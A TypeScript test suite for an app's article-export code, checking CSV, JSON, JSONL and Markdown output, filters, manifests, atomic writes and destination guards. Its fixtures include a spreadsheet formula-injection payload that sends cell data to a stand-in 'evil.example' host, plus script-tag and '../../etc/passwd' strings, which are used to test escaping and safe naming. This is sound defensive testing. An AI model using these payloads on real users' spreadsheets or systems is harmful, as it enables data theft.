// Export in the core, on stored items made in memory (so these tests do not depend on the store's
// layout): the four formats' round trips, filters, the incremental manifest, atomic writes with an
// injected failing write, cancellation, destination checks, and the JSON Schema.
import { test } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
import { open } from "node:fs/promises";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { Ajv2020 } from "ajv/dist/2020.js";
import { parse } from "csv-parse/sync";
import { z } from "zod";
import { exportApproved, ExportCancelledError, type ExportOptions, type ExportProgress } from "../../electron/core/export/export-approved.js";
import type { OpenOutput } from "../../electron/core/export/atomic-output.js";
import { readManifests } from "../../electron/core/export/export-manifest.js";
import { toExportRecord } from "../../electron/core/export/export-record.js";
import { escapeMarkdown, markdownFileName, unescapeMarkdown } from "../../electron/core/export/markdown-files.js";
import type { StoredItem } from "../../electron/core/store/schema.js";
import { ExportFilter, type ExportFormat } from "../../shared/api.js";
import { CSV_COLUMNS, ExportRecord, exportRecordJsonSchemaText, fromCsvRow } from "../../shared/export-record.js";
import { emptyFields, FIELD_NAMES, type ArticleFields } from "../../shared/record.js";
import { repoRoot, tempDir } from "../helpers.js";
const sha = (text: string) => createHash("sha256").update(text).digest("hex");

type T = Parameters<typeof tempDir>[0];

function approvedItem(file: string, fields: Partial<ArticleFields>, extra: { reviewer?: string; at?: string; correctedFields?: string[]; status?: string; override?: boolean } = {}): StoredItem {
  const full = { ...emptyFields(), ...fields };
  const at = extra.at ?? "2024-05-01T10:00:00.000Z";
  const status = extra.status ?? "approved";
  return {
    id: sha(file),
    file,
    size: 100,
    mtimeMs: 0,
    format: "text",
    encoding: "utf-8",
    extraction: { extractorVersion: "test-1", format: "text", encoding: "utf-8", fields: emptyFields(), spans: {}, confidence: {}, warnings: [] },
    corrections: {},
    status,
    ...(status === "approved"
      ? { approved: { fields: full, at, reviewer: extra.reviewer ?? "ana", correctedFields: extra.correctedFields ?? [], ...(extra.override ? { validationOverridden: true } : {}) } }
      : {}),
    missing: false,
    createdAt: at,
    updatedAt: at,
  } as unknown as StoredItem;
}

/** Titles, lists and paragraphs with commas, quotes, line breaks, CJK, emoji, Markdown and HTML. */
function trickyItems(): StoredItem[] {
  return [
    approvedItem(
      "a/001_commas.txt",
      {
        title: 'Fares rise, riders say "enough"',
        publisher: "Harbor Ledger",
        publishedAt: "2024-03-05T08:00:00-05:00",
        authors: ["Smith, Jr., John", 'Ann "Nan" Lee'],
        body: ["First, a comma.", 'Then "quotes", and a line\nbreak inside one paragraph?', "=SUM(A1:A2) stays as text"],
        related: ["One, two", "Three; four"],
        url: "https://example.com/a?x=1&y=2",
      },
      { correctedFields: ["title", "body"], reviewer: "ana" },
    ),
    approvedItem(
      "002_cjk.txt",
      {
        title: "厦门珊瑚礁修复 🐠 取得进展",
        publisher: "人民网",
        publishedAt: "2021-06-08",
        dateline: "厦门6月8日电",
        body: ["第一段，有逗号。", "第二段\u2028含有特殊分隔符", "emoji 🎉👩🏽‍💻 and combining é"],
        language: "zh",
      },
      { reviewer: "Bo" },
    ),
    approvedItem(
      "003_markdown.txt",
      {
        title: "# Not a heading <script>alert(1)</script> ../../etc/passwd",
        publisher: "xinhuanet",
        publishedAt: "2015-10-21T19:16:03+08:00",
        body: ["- not a list", "1. not numbered", "*stars* _under_ `code` [link](x) \\ backslash & amp; > quote", "+ plus", "===", "   4) indented"],
        related: [],
        authors: [],
      },
      { reviewer: "ana", override: true },
    ),
    approvedItem("004_undated.txt", { title: "", publisher: "Xinhuanet", publishedAt: "" }, { reviewer: "cy" }),
    approvedItem("005_pending.txt", { title: "Pending" }, { status: "pending" }),
    approvedItem("006_rejected.txt", { title: "Rejected" }, { status: "rejected" }),
  ];
}

/** A scrape folder and a database path for the destination guard (the database file exists). */
function guardFolders(t: T) {
  const root = tempDir(t, "copydesk-export-");
  const folder = join(root, "scrapes");
  mkdirSync(folder);
  writeFileSync(join(folder, "x.txt"), "raw");
  const dbPath = join(root, "review.json");
  writeFileSync(dbPath, "{}");
  const out = join(root, "out");
  mkdirSync(out);
  return { root, folder, dbPath, out, guard: { folder, dbPath }, manifestPath: join(root, "review.exports.jsonl") };
}

// ---- the tests -------------------------------------------------------------------------------

const schemaFile = join(repoRoot, "schema", "export-record.schema.json");
const ajv = new Ajv2020({ strict: true, allErrors: true, validateFormats: false });
const validateWithJsonSchema = ajv.compile(JSON.parse(readFileSync(schemaFile, "utf8")));

const approvedOnly = (items: StoredItem[]) => items.filter((i) => i.status === "approved").sort((a, b) => (a.file < b.file ? -1 : 1));

async function run(t: T, format: ExportFormat, extra: Partial<ExportOptions> = {}, items = trickyItems()) {
  const g = guardFolders(t);
  const destination = join(g.out, format === "markdown" ? "articles" : `approved.${format}`);
  const summary = await exportApproved(items, { format, destination, guard: g.guard, who: "tester", manifestPath: g.manifestPath, ...extra });
  return { ...g, summary, items };
}

test("the shipped JSON Schema file is exactly what z.toJSONSchema makes of the zod export record", () => {
  assert.equal(
    readFileSync(schemaFile, "utf8"),
    exportRecordJsonSchemaText(),
    "schema/export-record.schema.json is stale: regenerate it with `copydesk schema > schema/export-record.schema.json`",
  );
  assert.deepEqual(JSON.parse(readFileSync(schemaFile, "utf8")), z.toJSONSchema(ExportRecord, { target: "draft-2020-12" }));
});

test("the JSON Schema rejects what the zod schema rejects: missing provenance, extra keys, a bad sha256, a wrong type", () => {
  const good = toExportRecord(trickyItems()[0]!)!;
  assert.ok(validateWithJsonSchema(good), JSON.stringify(validateWithJsonSchema.errors));
  const bad = [
    (({ provenance: _p, ...rest }) => rest)(good),
    { ...good, extra: 1 },
    { ...good, provenance: { ...good.provenance, sha256: "ABC" } },
    { ...good, authors: "Ann" },
    { ...good, provenance: { ...good.provenance, correctedFields: ["headline"] } },
    { ...good, provenance: { ...good.provenance, approvedAt: "yesterday" } },
  ];
  for (const record of bad) {
    assert.equal(ExportRecord.safeParse(record).success, false, JSON.stringify(record).slice(0, 80));
    assert.equal(validateWithJsonSchema(record), false, JSON.stringify(record).slice(0, 80));
  }
});

test("JSONL round trip: approved only, every line validates against the JSON Schema and zod, and parses back to the approved snapshot", async (t) => {
  const { summary, items } = await run(t, "jsonl");
  const expected = approvedOnly(items);
  assert.equal(summary.count, expected.length);
  assert.equal(summary.format, "jsonl");
  const text = readFileSync(summary.path, "utf8");
  assert.equal(summary.bytes, Buffer.byteLength(text));
  assert.ok(text.endsWith("\n"));
  const lines = text.slice(0, -1).split("\n");
  assert.equal(lines.length, expected.length, "a line break inside a value is escaped, never a new line");
  for (const [index, line] of lines.entries()) {
    const record: ExportRecord = JSON.parse(line);
    assert.ok(validateWithJsonSchema(record), JSON.stringify(validateWithJsonSchema.errors));
    assert.deepEqual(ExportRecord.parse(record), record);
    const item = expected[index]!;
    const { provenance, ...fields } = record;
    assert.deepEqual(fields, item.approved!.fields);
    assert.deepEqual(Object.keys(fields), [...FIELD_NAMES], "fields in guideline order");
    assert.deepEqual(provenance, {
      file: item.file,
      sha256: item.id,
      extractorVersion: "test-1",
      correctedFields: item.approved!.correctedFields,
      validationOverridden: item.file === "003_markdown.txt",
      reviewer: item.approved!.reviewer,
      approvedAt: item.approved!.at,
    });
  }
});

test("JSON array holds the same records as JSONL", async (t) => {
  const { summary, items } = await run(t, "json");
  const records = JSON.parse(readFileSync(summary.path, "utf8"));
  assert.ok(Array.isArray(records));
  assert.deepEqual(records, approvedOnly(items).map(toExportRecord));
  const empty = await run(t, "json", {}, []);
  assert.deepEqual(JSON.parse(readFileSync(empty.summary.path, "utf8")), []);
  assert.equal(empty.summary.count, 0);
});

test("CSV round trip through csv-parse: the same values, commas, quotes, line breaks, CJK and emoji included", async (t) => {
  const { summary, items } = await run(t, "csv");
  const text = readFileSync(summary.path, "utf8");
  assert.ok(text.startsWith("title,publisher,"), "a header row, no byte order mark by default");
  assert.ok(text.endsWith("\r\n"), "RFC 4180 CRLF record delimiter");
  const rows: Record<string, string>[] = parse(text, { columns: true, bom: true, relax_quotes: false, relax_column_count: false });
  assert.deepEqual(Object.keys(rows[0]!), [...CSV_COLUMNS]);
  const expected = approvedOnly(items);
  assert.equal(rows.length, expected.length);
  for (const [index, row] of rows.entries()) {
    const record = toExportRecord(expected[index]!)!;
    assert.equal(row.title, record.title);
    assert.equal(row.body, record.body.join("\n\n"), "paragraphs joined with a blank line");
    assert.equal(row.authors, record.authors.join("\n"));
    assert.equal(row.related, record.related.join("\n"));
    assert.equal(row["provenance.validationOverridden"], String(record.provenance.validationOverridden));
    if (!record.body.some((p) => p.includes("\n"))) assert.deepEqual(fromCsvRow(row), record, "splits back to the record");
  }
  const row = (file: string) => rows.find((r) => r["provenance.file"] === file)!;
  assert.equal(row("a/001_commas.txt").authors, 'Smith, Jr., John\nAnn "Nan" Lee');
  assert.equal(row("002_cjk.txt").title, "厦门珊瑚礁修复 🐠 取得进展");
  assert.equal(row("a/001_commas.txt").body!.split("\n\n")[2], "=SUM(A1:A2) stays as text", "values are written as they are, never altered");

  const withBom = await run(t, "csv", { bom: true });
  const bytes = readFileSync(withBom.summary.path);
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
  assert.deepEqual(parse(bytes.toString("utf8"), { columns: true, bom: true }), rows);
});

test("CSV with escapeFormulas: a cell a spreadsheet would run as a formula starts with ', every other cell is as it was", async (t) => {
  const hostile = approvedItem("003_formula.txt", {
    title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    publisher: "+Plus Daily",
    authors: ["@handle"],
    body: ["-5 degrees overnight", "=SUM(A1:A2) inside the cell, not at its start"],
    related: ["Safe headline"],
  });
  const plain = await run(t, "csv", {}, [...trickyItems(), hostile]);
  const escaped = await run(t, "csv", { escapeFormulas: true }, [...trickyItems(), hostile]);
  const read = (path: string): Record<string, string>[] => parse(readFileSync(path, "utf8"), { columns: true });
  const before = read(plain.summary.path);
  const after = read(escaped.summary.path);
  assert.equal(after.length, before.length);
  for (const [i, row] of after.entries()) {
    for (const [column, value] of Object.entries(row)) {
      const original = before[i]![column]!;
      const risky = /^[=+\-@\t\r]/.test(original);
      assert.equal(value, risky ? `'${original}` : original, `${column} of row ${i}`);
    }
  }
  const row = after.find((r) => r["provenance.file"] === "003_formula.txt")!;
  assert.equal(row.title, `'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
  assert.equal(row.publisher, "'+Plus Daily");
  assert.equal(row.body, "'-5 degrees overnight\n\n=SUM(A1:A2) inside the cell, not at its start");
});

test("Markdown folder: one file per record, safe names, front matter with the fields, the body escaped and exact", async (t) => {
  const { summary, items, out } = await run(t, "markdown");
  assert.equal(summary.path, join(out, "articles"));
  const files = readdirSync(summary.path).sort();
  const expected = approvedOnly(items);
  assert.equal(files.length, expected.length);
  assert.equal(summary.bytes, files.reduce((n, f) => n + statSync(join(summary.path, f)).size, 0));
  for (const name of files) {
    assert.match(name, /^[\p{L}\p{N}-]+-[0-9a-f]{12}\.md$/u);
    assert.ok(Buffer.byteLength(name) < 255);
  }
  assert.ok(files.some((f) => f.startsWith("not-a-heading-script-alert-1-script-etc-passwd-")), files.join(" "));
  assert.ok(files.some((f) => f.startsWith("厦门珊瑚礁修复-取得进展-")), files.join(" "));
  assert.ok(files.some((f) => f.startsWith("article-")), "an empty title still gives a name");
  for (const item of expected) {
    const name = files.find((f) => f.endsWith(`-${item.id.slice(0, 12)}.md`))!;
    const { front, body } = readMarkdown(readFileSync(join(summary.path, name), "utf8"));
    const record = toExportRecord(item)!;
    const { body: paragraphs, ...rest } = record;
    assert.deepEqual(front, rest);
    assert.deepEqual(body, paragraphs);
  }
  const text = readFileSync(join(summary.path, files.find((f) => f.startsWith("not-a-heading"))!), "utf8");
  const markdown = text.slice(text.indexOf("\n---\n") + 5);
  assert.ok(!markdown.includes("<script>") && markdown.includes("\\<script\\>"), "HTML in the text is escaped");
  assert.match(text, /^\\- not a list$/m);
  assert.match(text, /^1\\\. not numbered$/m);
});

test("filters: publisher and reviewer (any of, case-insensitive), date range on the printed date, undated left out", async (t) => {
  const files = async (filter: ExportFilter) => {
    const { summary } = await run(t, "jsonl", { filter });
    return readFileSync(summary.path, "utf8").trim().split("\n").filter(Boolean).map((l) => JSON.parse(l).provenance.file);
  };
  assert.deepEqual(await files({ publishers: [" XINHUANET ", "harbor ledger"] }), ["003_markdown.txt", "004_undated.txt", "a/001_commas.txt"]);
  assert.deepEqual(await files({ reviewers: ["bo", "CY"] }), ["002_cjk.txt", "004_undated.txt"]);
  assert.deepEqual(await files({ publishedFrom: "2021-06-08" }), ["002_cjk.txt", "a/001_commas.txt"]);
  assert.deepEqual(await files({ publishedTo: "2021-06-08" }), ["002_cjk.txt", "003_markdown.txt"]);
  assert.deepEqual(await files({ publishedFrom: "2015-10-21", publishedTo: "2015-10-21" }), ["003_markdown.txt"], "the date as printed, not in UTC");
  assert.deepEqual(await files({ publishers: ["xinhuanet"], reviewers: ["ana"] }), ["003_markdown.txt"]);
  assert.equal(ExportFilter.safeParse({ publishedFrom: "2024-02-30" }).success, false);
  assert.equal(ExportFilter.safeParse({ publishedFrom: "2024-03-01", publishedTo: "2024-02-01" }).success, false);
  assert.equal(ExportFilter.safeParse({ publisher: "x" }).success, false, "unknown filter keys are refused");
});

test("since the last export: only new approvals and re-approvals; the manifest records what each export held", async (t) => {
  const g = guardFolders(t);
  const items = trickyItems();
  const exportTo = (name: string, filter: ExportFilter = { sinceLastExport: true }, list = items) =>
    exportApproved(list, { format: "jsonl", destination: join(g.out, name), guard: g.guard, who: "tester", manifestPath: g.manifestPath, filter });
  const first = await exportTo("1.jsonl");
  assert.equal(first.count, 4);
  const second = await exportTo("2.jsonl");
  assert.equal(second.count, 0);
  assert.equal(readFileSync(second.path, "utf8"), "", "an empty export is still a file");
  // One item re-approved after an edit (a new approval time), one newly approved.
  const changed = items.map((item) => (item.file === "002_cjk.txt" ? approvedItem(item.file, { ...item.approved!.fields, title: "Edited" }, { at: "2024-06-01T00:00:00.000Z" }) : item));
  changed.push(approvedItem("007_new.txt", { title: "New" }));
  const third = await exportTo("3.jsonl", { sinceLastExport: true }, changed);
  assert.deepEqual(readFileSync(third.path, "utf8").trim().split("\n").map((l) => JSON.parse(l).title), ["Edited", "New"]);

  const { manifests, damagedLines } = await readManifests(g.manifestPath);
  assert.equal(damagedLines, 0);
  assert.deepEqual(manifests.map((m) => m.count), [4, 0, 2]);
  assert.deepEqual(manifests[2]!.records.map((r) => r.file), ["002_cjk.txt", "007_new.txt"]);
  assert.equal(manifests[2]!.path, third.path);
  assert.deepEqual(manifests[2]!.filter, { sinceLastExport: true });

  // A damaged manifest line only ever makes a record come back, never go missing.
  writeFileSync(g.manifestPath, readFileSync(g.manifestPath, "utf8") + '{"torn":');
  const fourth = await exportTo("4.jsonl", { sinceLastExport: true }, changed);
  assert.equal(fourth.count, 0);
  assert.equal((await readManifests(g.manifestPath)).damagedLines, 1);
  assert.equal((await readManifests(g.manifestPath)).manifests.length, 4, "the next line starts on a fresh line");
});

test("a failing write leaves no half file, keeps the file it would have replaced, and records nothing", async (t) => {
  for (const format of ["jsonl", "json", "csv", "markdown"] as const) {
    const g = guardFolders(t);
    const destination = join(g.out, format === "markdown" ? "md" : `approved.${format}`);
    if (format !== "markdown") writeFileSync(destination, "the previous export\n");
    let writes = 0;
    const failing: OpenOutput = async (path) => {
      const handle = await open(path, "wx");
      return {
        write: async (data: Uint8Array) => {
          if (++writes > 2) throw Object.assign(new Error("no space left on device (injected)"), { code: "ENOSPC" });
          return handle.write(data);
        },
        sync: () => handle.sync(),
        close: () => handle.close(),
      };
    };
    const many = Array.from({ length: 50 }, (_, i) => approvedItem(`f${String(i).padStart(3, "0")}.txt`, { title: `Story ${i}`, body: ["x".repeat(500)] }));
    await assert.rejects(
      exportApproved(many, { format, destination, guard: g.guard, who: "t", manifestPath: g.manifestPath, open: failing, bufferBytes: 1024, batchSize: 5 }),
      /no space left/,
    );
    assert.ok(writes > 2, `${format}: the failure came after something was written`);
    assert.deepEqual(readdirSync(g.out).sort(), format === "markdown" ? [] : [`approved.${format}`], `${format}: no temp file or folder is left`);
    if (format !== "markdown") assert.equal(readFileSync(destination, "utf8"), "the previous export\n");
    assert.ok(!existsSync(g.manifestPath), `${format}: a failed export is not in the manifest`);
  }
});

test("a cancelled export stops, removes what it wrote and says so; progress counts up to the total", async (t) => {
  const many = Array.from({ length: 40 }, (_, i) => approvedItem(`f${String(i).padStart(3, "0")}.txt`, { title: `Story ${i}` }));
  for (const format of ["csv", "markdown"] as const) {
    const g = guardFolders(t);
    const controller = new AbortController();
    const seen: ExportProgress[] = [];
    await assert.rejects(
      exportApproved(many, {
        format,
        destination: join(g.out, "x"),
        guard: g.guard,
        who: "t",
        manifestPath: g.manifestPath,
        batchSize: 10,
        signal: controller.signal,
        onProgress: (p) => {
          seen.push(p);
          if (p.done >= 20) controller.abort();
        },
      }),
      ExportCancelledError,
    );
    assert.deepEqual(readdirSync(g.out), []);
    assert.ok(!existsSync(g.manifestPath));
  }
  const seen: ExportProgress[] = [];
  const { summary } = await run(t, "jsonl", { batchSize: 7, onProgress: (p) => seen.push(p) }, many);
  assert.equal(summary.count, 40);
  assert.deepEqual(seen.at(0), { done: 0, total: 40 });
  assert.deepEqual(seen.at(-1), { done: 40, total: 40 });
  assert.ok(seen.every((p, i) => i === 0 || p.done >= seen[i - 1]!.done));
});

test("destinations inside the scrape folder, over the database, its shard folder or the manifest, or of the wrong kind are refused", async (t) => {
  const g = guardFolders(t);
  const items = trickyItems();
  const attempt = (format: ExportFormat, destination: string) =>
    exportApproved(items, { format, destination, guard: g.guard, who: "t", manifestPath: g.manifestPath });
  await assert.rejects(attempt("jsonl", join(g.folder, "out.jsonl")), /into the scrape folder/);
  await assert.rejects(attempt("markdown", g.folder), /into the scrape folder/);
  await assert.rejects(attempt("csv", g.dbPath), /over the review database/);
  mkdirSync(`${g.dbPath}.d`);
  await assert.rejects(attempt("csv", join(`${g.dbPath}.d`, "x.csv")), /review database's own files/);
  await assert.rejects(attempt("markdown", join(g.root, "review.json.d")), /review database's own files/);
  await assert.rejects(attempt("jsonl", join(g.root, "review.json.bak-1")), /review database's own files/);
  assert.equal((await attempt("jsonl", join(g.root, "review.jsonl"))).count, 4, "a name that merely starts like the database is fine");
  writeFileSync(g.manifestPath, "");
  await assert.rejects(attempt("jsonl", g.manifestPath), /which Copydesk keeps/);
  await assert.rejects(attempt("jsonl", g.out), /is a folder/);
  await assert.rejects(attempt("jsonl", join(g.root, "nope", "x.jsonl")), /does not exist/);
  writeFileSync(join(g.out, "file"), "keep");
  await assert.rejects(attempt("markdown", join(g.out, "file")), /is a file/);
  await assert.rejects(attempt("markdown", g.out), /is not empty/);
  // A symlink to the scrape folder is seen through.
  symlinkSync(g.folder, join(g.root, "link"));
  await assert.rejects(attempt("jsonl", join(g.root, "link", "x.jsonl")), /into the scrape folder/);
  assert.deepEqual(readdirSync(g.folder), ["x.txt"]);
  assert.equal(readFileSync(g.dbPath, "utf8"), "{}");
  assert.deepEqual(readdirSync(g.out), ["file"]);
  // An empty folder is fine for Markdown.
  mkdirSync(join(g.out, "empty"));
  const ok = await attempt("markdown", join(g.out, "empty"));
  assert.equal(ok.count, 4);
});

test("an approved record that no longer validates is left out with the reason, and the rest are exported", async (t) => {
  const items = [...trickyItems(), approvedItem("008_bad.txt", { title: "Bad date" }, { at: "sometime" })];
  const { summary } = await run(t, "jsonl", {}, items);
  assert.equal(summary.count, 4);
  assert.equal(summary.skipped.length, 1);
  assert.equal(summary.skipped[0]!.file, "008_bad.txt");
  assert.match(summary.skipped[0]!.reason, /provenance\.approvedAt/);
});

test("Markdown escaping is undone exactly by unescapeMarkdown, and file names stay short and safe", () => {
  for (const text of ["- a", "1. b", "10) c", "# d", "a\\b", "\\*", "<b>&amp;</b>", "`x` *y* _z_ [l](u) ![i](j) | ~ !", "+", "=", "  - e", "日本語 🎉", ""]) {
    assert.equal(unescapeMarkdown(escapeMarkdown(text)), text, text);
  }
  const long = toExportRecord(approvedItem("z.txt", { title: "word ".repeat(100) + "長".repeat(300) }))!;
  assert.ok(markdownFileName(long).length <= 60 + 1 + 12 + 3);
  const cjkOnly = toExportRecord(approvedItem("y.txt", { title: "長".repeat(300) }))!;
  assert.ok(Buffer.byteLength(markdownFileName(cjkOnly)) < 255);
  for (const title of ["..", "../..", "CON", "a/b\\c", ".hidden", "\u0000nul"]) {
    const name = markdownFileName(toExportRecord(approvedItem("x.txt", { title }))!);
    assert.match(name, /^[\p{L}\p{N}-]+-[0-9a-f]{12}\.md$/u, name);
    assert.ok(!name.startsWith("."));
  }
});

/** Reads the front matter (JSON values, so YAML 1.2) and the escaped body of an exported Markdown file. */
function readMarkdown(text: string): { front: Record<string, unknown>; body: string[] } {
  const match = /^---\n([\s\S]*?)\n---\n(?:\n([\s\S]*))?$/.exec(text);
  assert.ok(text.endsWith("\n") && !text.endsWith("\n\n"), "one final newline");
  assert.ok(match, "front matter between --- lines");
  const front: Record<string, unknown> = {};
  let nested: Record<string, unknown> | null = null;
  for (const line of match[1]!.split("\n")) {
    const m = /^( {2})?([A-Za-z0-9]+):(?: (.*))?$/.exec(line);
    assert.ok(m, `a front matter line: ${line}`);
    if (m[3] === undefined) front[m[2]!] = nested = {};
    else if (m[1]) nested![m[2]!] = JSON.parse(m[3]);
    else front[m[2]!] = JSON.parse(m[3]);
  }
  const blocks = (match[2] ?? "").replace(/\n$/, "").split("\n\n").filter((b) => b !== "");
  if (front.title) assert.equal(unescapeMarkdown(blocks.shift()!.replace(/^# /, "")), front.title);
  return { front, body: blocks.map(unescapeMarkdown) };
}
